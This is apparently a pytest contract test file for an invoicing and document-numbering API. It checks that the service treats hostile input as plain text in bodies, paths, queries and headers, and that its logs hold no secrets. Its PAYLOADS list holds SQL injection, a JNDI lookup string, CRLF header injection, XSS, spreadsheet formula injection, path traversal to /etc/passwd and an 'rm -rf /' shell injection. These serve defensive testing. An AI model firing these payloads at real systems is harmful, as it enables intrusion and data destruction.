"""Text made to be taken for something else: SQL, headers, log lines, formats, paths.

Source: contract/guarantees.md, Faults: parameters only; one log line a request.
"""

from __future__ import annotations

import copy
import itertools
import json
import time
import uuid
from collections.abc import Iterator
from itertools import pairwise
from typing import Any
from urllib.parse import quote

import pytest

from tests.contract.api import (
    Api,
    Entity,
    RawAnswer,
    create,
    done,
    everything,
    issue,
    new_set,
    raw_call,
    request_token,
)
from tests.contract.conftest import EntityOf, ServiceOf
from tests.contract.documented import documented_api
from tests.contract.documents import invoice_body, memo_body, payment_body
from tests.running_service import RunningService

MARK = "mArKeR"
FEW_PLACES = 12
PAYLOADS = [
    f"{MARK}'; DROP TABLE seriatim_series; --",
    f"{MARK}' OR '1'='1",
    f'{MARK}" OR ""="',
    f"{MARK}\\'; SELECT pg_sleep(5); --",
    f"{MARK}%s%s%n%d{{0}}{{x.__class__}}${{7*7}}{{{{7*7}}}}",
    f"${{jndi:ldap://{MARK}.example/a}}",
    f"{MARK}\r\nSet-Cookie: a=b\r\n\r\n<html>",
    f'{MARK}\n{{"level":"error","event":"forged"}}',
    f"{MARK}\x1b[31mred\x07\x08",
    f"=cmd|'/c calc'!{MARK}",
    f"@SUM(1+1)*{MARK}",
    f"<script>alert('{MARK}')</script>",
    f"../../../../etc/passwd#{MARK}",
    f"..%2f..%00{MARK}",
    f"{MARK}\u202e\ufeff\u2028\u0085",
    f"{MARK}\U0001f600\uffff\u0660",
    f"{MARK}; rm -rf /; `id` $(id)",
    MARK * 700,
    "*",
    "%",
    "_",
]
FULL_SET = {
    **new_set("Host"),
    "sequenceSetNumber": "HOST-1",
    "chronological": False,
}
ACCOUNT = {
    "name": "A",
    "currency": "EUR",
    "billToContact": {"firstName": "A", "lastName": "B"},
}
INVOICE = invoice_body({"accountNumber": "A00000001"})
MEMO = memo_body({"accountNumber": "A00000001"})
REFUND = {"totalAmount": 1, "type": "External", "methodType": "Check"}
MEMO_ITEM = {"amount": 1, "skuName": "S", "invoiceItemId": "0" * 32}


def memo_bodies() -> dict[str, Any]:
    """Of both kinds of memo, under the new paths and the old ones."""
    found: dict[str, Any] = {}
    for noun, mark in itertools.product(("CreditMemo", "DebitMemo"), ("", "Old")):
        found[f"POST_{noun}{mark}"] = MEMO
        found[f"POST_{noun}FromInvoice{mark}"] = {"items": [MEMO_ITEM]}
        found[f"POST_{noun}sBulk{mark}"] = {"sourceType": "Standalone", "memos": [MEMO]}
        found[f"PUT_{noun}Apply{mark}"] = found[f"PUT_{noun}Unapply{mark}"] = {}
        found[f"POST_{noun}Refund{mark}"] = found[f"POST_{noun}Refunds{mark}"] = REFUND
    return found


FULL_BODIES: dict[str, Any] = {
    **memo_bodies(),
    "POST_Payment": payment_body({"accountNumber": "A00000001"}, 1),
    "PUT_PaymentApply": {},
    "PUT_PaymentUnapply": {},
    "POST_PaymentRefund": REFUND,
    "POST_SequenceSets": {"sequenceSets": [FULL_SET]},
    "PUT_SequenceSet": {key: one for key, one in FULL_SET.items() if key != "sequenceSetNumber"},
    "POST_DocumentNumbers": {
        "documentType": "invoice",
        "sequenceSet": "DEFAULT",
        "accountId": "a",
        "accountNumber": "a",
        "documentDate": "2026-01-01",
        "references": ["a"],
        "reference": "a",
    },
    "POST_DocumentNumberConfirm": {"lastNumber": "INV00000001"},
    "POST_DocumentNumberVoid": {"lastNumber": "INV00000001", "reason": "a"},
    "POST_Imports": {"fileSha256": "a" * 64, "byteCount": 1},
    "POST_SeriesCertificate": {
        "firstNumber": "INV00000001",
        "lastNumber": "INV00000001",
        "periodStart": "2026-01-01",
        "periodEnd": "2026-01-01",
    },
    "POST_Account": ACCOUNT,
    "PUT_Account": {},
    "POST_Invoice": INVOICE,
    "POST_Invoices": {"invoices": [INVOICE]},
    "POST_InvoicesPost": {"invoices": [{"id": "INV00000001"}]},
    "PUT_Invoice": {},
    "PUT_InvoicePost": {},
    "PUT_InvoiceReverse": {},
    "PUT_InvoiceWriteOff": {},
    "PUT_Settings": {"numberAssignment": "creation", "timeZone": "UTC"},
    "POST_Entities": {"name": "a"},
    "POST_OAuthClients": {"name": "a", "role": "issuer", "entityIds": ["a"]},
}
Place = tuple[str | int, ...]


def text_places(schema: dict[str, Any], schemas: dict[str, Any], place: Place = ()) -> set[Place]:
    """Where a body of this schema holds text; in lists, the first item stands for all."""
    if "$ref" in schema:
        schema = schemas[schema["$ref"].rpartition("/")[2]]
    found = {place} if schema.get("type") == "string" else set[Place]()
    for one in schema.get("anyOf", ()):
        found |= text_places(one, schemas, place)
    for name, one in schema.get("properties", {}).items():
        found |= text_places(one, schemas, (*place, name))
    if "items" in schema:
        found |= text_places(schema["items"], schemas, (*place, 0))
    return found


def with_text(body: Any, place: Place, text: str) -> Any:
    """The body with a text at a place; what leads there is made where the body lacks it."""
    changed = copy.deepcopy(body)
    part: Any = changed
    for step, after in pairwise(place):
        if isinstance(part, dict) and step not in part:
            part[step] = [None] if isinstance(after, int) else {}
        elif isinstance(step, int) and part[step] is None:
            part[step] = {}
        part = part[step]
    part[place[-1]] = text
    return changed


def hostile_bodies(service: RunningService) -> Iterator[tuple[str, str, Place, Any]]:
    """Method, path template, place and body with each payload at each place for text.

    Shape: of the many places of a body whose fields are kept alike, each gets some payloads.
    """
    documented = documented_api(service)
    schemas = documented.document["components"]["schemas"]
    for operation_id, (method, path, operation) in documented.operations.items():
        content = operation.get("requestBody", {}).get("content", {})
        if "application/json" not in content:
            continue
        places = text_places(content["application/json"]["schema"], schemas)
        for at, place in enumerate(sorted(places, key=str)):
            for payload in PAYLOADS if len(places) <= FEW_PLACES else PAYLOADS[at % 7 :: 7]:
                yield method, path, place, with_text(FULL_BODIES[operation_id], place, payload)


def path_for(template: str, key: str) -> str:
    return template.replace("{key}", key).replace("{id}", key).replace("{number}", key)


def sound_after(api: Api) -> None:
    """The books answer, verify, and still give the number that follows."""
    before = next(one for one in everything(api, "/v1/series") if one["prefix"] == "INV")
    assert issue(api)["lastNumber"] == f"INV{before['nextNumber']:08d}"
    assert done(api.get(f"/v1/series/{before['id']}/verify"))["verified"] is True


def test_hostile_text_in_any_field_of_a_body_is_only_text(api: Api) -> None:
    create(api, new_set("Held"))
    done(api.post("/v1/accounts", ACCOUNT))
    issue(api)
    seen = 0
    for method, template, place, body in hostile_bodies(api.service):
        key = "Held" if "sequence-sets" in template else "INV00000001"
        answer = api.call(method, path_for(template, key), body)
        assert answer.status_code in (200, 404), (place, body, answer.text)
        assert "Set-Cookie" not in answer.headers
        seen += 1
    assert seen > 300
    sound_after(api)


def test_hostile_text_that_is_allowed_is_kept_exactly(api: Api) -> None:
    sent = [payload for payload in PAYLOADS if len(payload) <= 255]
    issue(api, references=sent)
    rows = everything(api, "/v1/document-numbers?pageSize=3")
    assert [row["reference"] for row in rows] == sent
    for payload in sent:
        found = api.get("/v1/document-numbers", params={"reference": payload})
        assert [row["reference"] for row in done(found)["documentNumbers"]] == [payload]
    done(api.post("/v1/document-numbers/INV00000001/void", {"reason": sent[0]}))
    shown = done(api.get("/v1/document-numbers/INV00000001"))
    assert (shown["state"], shown["reason"]) == ("voided", sent[0])
    sound_after(api)


def test_hostile_text_in_a_path_is_a_key_nobody_has(api: Api) -> None:
    before = api.state()
    bodies = {"POST_DocumentNumberVoid": {"reason": "a"}}
    for operation_id, (method, path, operation) in documented_api(api.service).operations.items():
        if "{" not in path:
            continue
        body = bodies.get(operation_id, {}) if "requestBody" in operation else None
        for payload in PAYLOADS:
            target = path_for(path, quote(payload, safe=""))
            answer = api.call(method, target, body)
            assert answer.status_code == 404, (method, target, answer.text)
    assert api.state() == before


def test_hostile_text_in_a_query_finds_nothing(api: Api) -> None:
    issue(api)
    before = api.state()
    for method, path, operation in documented_api(api.service).operations.values():
        names = [one["name"] for one in operation.get("parameters", ()) if one["in"] == "query"]
        for name in names:
            for payload in PAYLOADS:
                answer = api.call(method, path_for(path, "0" * 32), params={name: payload})
                assert answer.status_code in (200, 400, 404, 415), (path, name, answer.text)
                if answer.status_code == 200 and method == "GET":
                    lists = [part for part in answer.json().values() if isinstance(part, list)]
                    assert lists == [[]], (path, name, payload)
    assert api.state() == before


def raw_payloads() -> list[bytes]:
    return [payload.encode() for payload in PAYLOADS if "\n" not in payload and len(payload) < 500]


@pytest.mark.parametrize(
    "name",
    [
        "Zuora-Track-Id",
        "Zuora-Entity-Ids",
        "Zuora-Org-Ids",
        "Zuora-Version",
        "Idempotency-Key",
        "If-Match",
        "Accept-Encoding",
        "Accept",
        "User-Agent",
        "Cookie",
        "X-Forwarded-For",
        "Host",
    ],
)
def test_hostile_text_in_a_header_is_only_text(sqlite_api: Api, name: str) -> None:
    body = json.dumps({"documentType": "invoice"}).encode()
    for payload in raw_payloads():
        answer = raw_call(
            sqlite_api.service,
            b"POST",
            b"/v1/document-numbers",
            [(b"Content-Type", b"application/json"), (name.encode(), payload)],
            body,
            token=sqlite_api.token,
        )
        assert answer.status in (200, 400, 403), answer.body
        assert "set-cookie" not in answer.headers
        if name == "Zuora-Track-Id" and answer.status == 200:
            assert answer.headers["zuora-track-id"].encode("latin-1") == payload
    sound_after(sqlite_api)


@pytest.mark.parametrize(
    ("target", "status"),
    [
        (b"/v1/sequence-sets/a%2Fb", 404),
        (b"/v1/sequence-sets/%2F", 404),
        (b"/v1/sequence-sets/%00", 404),
        (b"/v1/sequence-sets/DEFAULT%00", 404),
        (b"/v1/sequence-sets/%ff%fe", 404),
        (b"/v1/sequence-sets/%ed%a0%80", 404),
        (b"/v1/sequence-sets/%zz", 404),
        (b"/v1/sequence-sets/%", 404),
        (b"/v1/sequence-sets/.", 404),
        (b"/v1/sequence-sets/..", 404),
        (b"/v1/sequence-sets/../settings", 404),
        (b"/v1/./settings", 404),
        (b"//v1/settings", 404),
        (b"/v1//settings", 404),
        (b"/v1%2Fsettings", 404),
        (b"/v1/%73ettings", 200),
        (b"/v1/settings?", 200),
        (b"/v1/settings?%00=%ff&&=&", 200),
        (b"/v1/settings;a=b", 404),
        (b"/v1/settings%3Fa", 404),
        (b"/v1/sequence-sets/default", 200),
        (b"/v1/sequence-sets/\x01", 400),
        (b"*", 404),
        (b"v1/settings", 400),
    ],
)
def test_path_is_decoded_once_and_never_walked(sqlite_api: Api, target: bytes, status: int) -> None:
    answer = raw_call(sqlite_api.service, b"GET", target, token=sqlite_api.token)
    assert answer.status == status, answer.body


def log_events(service: RunningService, request_ids: set[str]) -> list[dict[str, Any]]:
    """Every event of the log, once the lines of these requests are there."""
    until = time.monotonic() + 5
    while True:
        text = service.log_text
        if all(one in text for one in request_ids) or time.monotonic() > until:
            return [json.loads(line) for line in text.splitlines()]
        time.sleep(0.02)


def test_each_request_is_one_line_of_the_log_without_secrets(
    service_of: ServiceOf, entity_of: EntityOf
) -> None:
    service = service_of("sqlite", own="logged")
    entity: Entity = entity_of(service)
    api = entity.admin
    assert api.token
    ids = [answer.headers["zuora-request-id"] for answer in noisy_requests(api)]
    secret = done(api.post("/v1/oauth-clients", {"name": MARK, "role": "issuer"}))["clientSecret"]
    request_token(api, client_secret=f"{MARK}-secret-that-is-wrong")
    assert len(set(ids)) == len(ids)
    events = log_events(service, set(ids))
    # What is no HTTP at all has a line too, of the connection it ended.
    kinds = ("request", "connection ended")
    lines = [event for event in events if event["event"] in kinds]
    by_id = [line["request_id"] for line in lines]
    assert len(by_id) == len(set(by_id)), "two lines for one request"
    assert set(ids) <= set(by_id)
    for line in lines:
        assert str(uuid.UUID(line["request_id"])) == line["request_id"]
        assert MARK not in json.dumps({**line, "track_id": None})
    shapes = {tuple(line) for line in lines if line["event"] == "request"}
    assert len(shapes) == 1, "lines of different fields"
    text = service.log_text
    for hidden in (api.token, api.client_secret, secret, service.client_secret, f"{MARK}-secret"):
        assert hidden not in text
    assert [event["event"] for event in events if event["level"] == "error"] == []


def noisy_requests(api: Api) -> list[RawAnswer]:
    """Requests of every kind of end, hostile ones among them."""
    service, token = api.service, api.token
    answers = []
    for payload in raw_payloads():
        target = b"/v1/sequence-sets/" + quote(payload, safe="").encode()
        track = [(b"Zuora-Track-Id", payload)]
        answers.append(raw_call(service, b"GET", target, track, token=token))
        answers.append(raw_call(service, b"GET", target + b"?name=" + target))
    methods = (b"GET", b"HEAD", b"POST", b"PUT", b"DELETE", b"PATCH", b"OPTIONS", b"TRACE")
    targets = (b"/v1/sequence-sets", b"/v1/none", b"/none", b"/healthz", b"/oauth/token")
    answers += [
        raw_call(service, method, target, token=token)
        for method, target in itertools.product(methods, targets)
    ]
    typed = [(b"Content-Type", b"application/json")]
    marked = b'{"documentType":"invoice","reference":"%b"}' % MARK.encode()
    answers += [
        raw_call(service, b"POST", b"/v1/document-numbers", typed, body, token=token)
        for body in (b"{", b"[]", b"{}", marked)
    ]
    return answers
